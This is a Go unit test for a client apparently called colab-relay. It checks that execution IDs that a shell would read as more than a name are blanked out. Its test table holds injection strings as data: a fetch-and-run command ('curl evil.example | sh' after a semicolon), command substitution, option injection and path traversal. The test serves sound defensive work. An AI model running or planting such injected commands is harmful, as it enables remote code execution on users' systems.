package client

import (
	"net/http"
	"testing"

	"colabrelay/shared/contract"
)

// A person pastes "colab-relay attach ID" into a shell, and a script uses the id that
// `run --detach` prints.
func TestAnIDThatAShellWouldReadAsMoreThanANameIsDropped(t *testing.T) {
	for id, want := range map[string]string{
		"3f2a-b.c_d": "3f2a-b.c_d", "--runtime=evil": "", "x; curl evil.example | sh": "", "$(id)": "", "..": "",
	} {
		e := newExecutor(t, func(s seen) (int, any) {
			one := contract.Execution{ExecutionID: id, Status: contract.StatusQueued, Behind: &contract.Behind{ExecutionID: id}}
			if s.method == http.MethodGet {
				return http.StatusOK, contract.ExecutionList{Executions: []contract.Execution{one}}
			}
			return http.StatusOK, one
		})
		c := e.client(t)
		got, err := c.Submit(t.Context(), contract.Submit{Code: "1"})
		if err != nil || got.ExecutionID != want || got.Behind.ExecutionID != want {
			t.Errorf("%q: %q, %+v, %v", id, got.ExecutionID, got.Behind, err)
		}
		list, err := c.List(t.Context(), 0)
		if err != nil || list.Executions[0].ExecutionID != want {
			t.Errorf("%q: %+v, %v", id, list, err)
		}
	}
}
